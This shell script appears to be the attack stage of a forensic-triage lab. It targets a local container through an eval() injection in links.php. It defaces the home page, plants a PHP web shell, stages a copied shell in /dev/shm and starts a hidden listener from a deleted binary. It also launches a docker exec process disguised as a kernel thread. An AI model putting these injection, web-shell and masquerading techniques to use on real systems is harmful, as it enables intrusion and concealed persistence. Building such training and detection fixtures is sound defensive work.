#!/bin/sh
# The compromise, over HTTP on loopback through the links page's eval(): deface the home
# page, drop a PHP web shell, stage an ELF payload in /dev/shm, start a listener from a
# copied binary and delete that binary; then, with access to the engine, a docker exec
# that hides as a kernel thread. Ground truth: README.md and expected.json.
set -eu
victim=$1
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../stack-lib.sh"
addr=$(published "$victim" 80)
[ -n "$addr" ] || { echo "attack: $victim publishes no port 80 on 127.0.0.1" >&2; exit 1; }

php() {
  command -v curl >/dev/null 2>&1 || { echo "attack: needs curl (Debian: apt-get install curl)" >&2; exit 1; }
  curl -fsS --max-time 20 -G --data-urlencode "shell=$1" "http://$addr/links.php" >/dev/null
}

php 'file_put_contents("/var/www/html/index.html", "<h1>HACKED BY php-links crew</h1>\n");'
php 'file_put_contents("/var/www/html/uploads/.sess.php", "<?php if (isset(\$_REQUEST[\"c\"])) { echo shell_exec(\$_REQUEST[\"c\"]); } ?>\n");'
php 'copy("/usr/bin/dash", "/dev/shm/.kworker"); chmod("/dev/shm/.kworker", 0755);'
# A listener from a copy of php, started in the background, its file deleted at once.
php '@mkdir("/tmp/.X11-unix"); copy("/usr/bin/php8.2", "/tmp/.X11-unix/kdevtmpfsi"); chmod("/tmp/.X11-unix/kdevtmpfsi", 0755); exec("nohup /tmp/.X11-unix/kdevtmpfsi -r '"'"'\$s = stream_socket_server(\"tcp://0.0.0.0:4444\"); while (true) { \$c = @stream_socket_accept(\$s, 3600); if (\$c) fclose(\$c); }'"'"' > /dev/null 2>&1 &"); sleep(1); unlink("/tmp/.X11-unix/kdevtmpfsi");'
# With access to the engine: a process started by docker exec, named like a kernel thread.
docker exec -d "$victim" bash -c 'exec -a "[kworker/u8:2]" sleep 86400'
# Wait (bounded) until the listener listens, so the triage sees it.
i=0
until [ "$(curl -fsS --max-time 5 -G --data-urlencode 'shell=echo @fsockopen("127.0.0.1", 4444) ? "up" : "down";' "http://$addr/links.php")" = up ]; do
  i=$((i + 1)); [ "$i" -lt 100 ] || { echo "attack: the listener never listened" >&2; exit 1; }
  sleep 0.1
done
